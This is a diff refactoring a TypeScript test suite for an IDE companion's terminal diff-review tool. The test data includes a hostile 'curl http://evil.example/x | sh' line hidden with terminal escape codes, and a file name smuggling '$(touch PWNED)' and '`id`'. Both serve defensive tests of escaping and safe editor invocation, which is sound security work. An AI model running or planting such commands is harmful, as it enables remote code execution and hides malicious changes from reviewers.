@@ -49,6 +49,11 @@ describe('ide-companion serve', { skip }, () => {
   let editorLog: string;
   const outcome = (filePath: string) =>
     waitFor(() => peer.notifications.find((n) => n.method !== 'ide/contextUpdate' && n.params.filePath === filePath), `outcome for ${filePath}`, 15_000);
+  /** The CLI proposes `newContent` for `filePath`; resolves once serve's review shows `shown`. */
+  const proposed = async (filePath: string, newContent: string, shown: string) => {
+    await peer.client.callTool({ name: 'openDiff', arguments: { filePath, newContent } });
+    await tmux.waitForText(shown);
+  };
 
   before(async () => {
     tmp = makeTempDir();
@@ -137,8 +142,7 @@ describe('ide-companion serve', { skip }, () => {
   test('a proposal is shown as a unified diff with its keys; "a" alone (no Enter) accepts it unchanged', async () => {
     const f = path.join(workspace, 'accept.txt');
     fs.writeFileSync(f, 'line one\n');
-    await peer.client.callTool({ name: 'openDiff', arguments: { filePath: f, newContent: 'line one\nline two\n' } });
-    await tmux.waitForText('+line two');
+    await proposed(f, 'line one\nline two\n', '+line two');
     await tmux.waitForText('[a]ccept');
     await tmux.waitForText('press one key: a accept, r reject, e edit');
     tmux.type('a');
@@ -147,16 +151,14 @@ describe('ide-companion serve', { skip }, () => {
 
   test('"r" alone rejects', async () => {
     const f = path.join(workspace, 'reject.txt');
-    await peer.client.callTool({ name: 'openDiff', arguments: { filePath: f, newContent: 'new file\n' } });
-    await tmux.waitForText('+new file');
+    await proposed(f, 'new file\n', '+new file');
     tmux.type('r');
     assert.deepEqual(await outcome(f), { method: 'ide/diffRejected', params: { filePath: f } });
   });
 
   test('a key and Enter arriving in one read still decide; a paste of several keys does not', async () => {
     const f = path.join(workspace, 'burst.txt');
-    await peer.client.callTool({ name: 'openDiff', arguments: { filePath: f, newContent: 'burst\n' } });
-    await tmux.waitForText('+burst');
+    await proposed(f, 'burst\n', '+burst');
     tmux.type('ar'); // pasted: neither accepts nor rejects
     await tmux.waitForText('one key at a time');
     assert.equal(
@@ -170,8 +172,7 @@ describe('ide-companion serve', { skip }, () => {
   test('"e" edits the proposal in $EDITOR; accepting sends the edited text byte for byte', async () => {
     const f = path.join(workspace, 'edit.txt');
     const proposal = 'crlf line\r\nno final newline';
-    await peer.client.callTool({ name: 'openDiff', arguments: { filePath: f, newContent: proposal } });
-    await tmux.waitForText('+crlf line␍');
+    await proposed(f, proposal, '+crlf line␍');
     tmux.type('e');
     await tmux.waitForText('(with your edits)');
     tmux.type('a');
@@ -182,8 +183,7 @@ describe('ide-companion serve', { skip }, () => {
   test('control characters in a proposal are shown, never sent to the terminal: \\r + ESC[2K cannot hide a line', async () => {
     const f = path.join(workspace, 'script.sh');
     const hostile = 'curl http://evil.example/x | sh\r\x1b[2Kecho "tests pass"\n';
-    await peer.client.callTool({ name: 'openDiff', arguments: { filePath: f, newContent: hostile } });
-    await tmux.waitForText('[a]ccept');
+    await proposed(f, hostile, '[a]ccept');
     const screen = await tmux.waitForText('+curl http://evil.example/x | sh␍␛[2Kecho "tests pass"');
     assert.ok(!screen.includes('\x1b'));
     tmux.type('r');
@@ -194,8 +194,7 @@ describe('ide-companion serve', { skip }, () => {
   // anything is shown (issue 27: control characters in a path), and the refusal carries no escape.
   test('a path holding ESC[2J ESC[H is refused: the screen is not cleared and nothing is proposed', async () => {
     const marker = path.join(workspace, 'before-the-hostile-path.txt');
-    await peer.client.callTool({ name: 'openDiff', arguments: { filePath: marker, newContent: 'marker\n' } });
-    await tmux.waitForText('+marker');
+    await proposed(marker, 'marker\n', '+marker');
     tmux.type('r');
     await outcome(marker);
     const f = path.join(workspace, 'evil\x1b[2J\x1b[Hname.txt');
@@ -214,8 +213,7 @@ describe('ide-companion serve', { skip }, () => {
 
   test('editing works for any file name: the temp file is safely named and passed as one argument', async () => {
     const f = path.join(workspace, 'odd "name\' $(touch PWNED) `id`;-x +q.txt');
-    await peer.client.callTool({ name: 'openDiff', arguments: { filePath: f, newContent: 'odd\n' } });
-    await tmux.waitForText('+odd');
+    await proposed(f, 'odd\n', '+odd');
     fs.rmSync(editorLog, { force: true });
     tmux.type('e');
     await waitFor(() => tmux.screen().includes('(with your edits)') && fs.existsSync(editorLog), 'the edited proposal');
@@ -229,8 +227,7 @@ describe('ide-companion serve', { skip }, () => {
 
   test('a flood of refused requests stays on the status line: the proposal and its prompt stay on screen', async () => {
     const f = path.join(workspace, 'flood.txt');
-    await peer.client.callTool({ name: 'openDiff', arguments: { filePath: f, newContent: 'still here\n' } });
-    await tmux.waitForText('+still here');
+    await proposed(f, 'still here\n', '+still here');
     const name = fs.readdirSync(discoveryDir).find((n) => n.startsWith('gemini-ide-server-'))!;
     const { port } = JSON.parse(fs.readFileSync(path.join(discoveryDir, name), 'utf8'));
     const refused = (i: number) =>
@@ -255,8 +252,7 @@ describe('ide-companion serve', { skip }, () => {
 
   test('closeDiff from the CLI (answered in its terminal) closes the review and returns the edits', async () => {
     const f = path.join(workspace, 'closed.txt');
-    await peer.client.callTool({ name: 'openDiff', arguments: { filePath: f, newContent: 'model\n' } });
-    await tmux.waitForText('+model');
+    await proposed(f, 'model\n', '+model');
     tmux.type('e');
     await tmux.waitForText('closed.txt (with your edits):');
     const r: any = await peer.client.callTool({ name: 'closeDiff', arguments: { filePath: f, suppressNotification: true } });
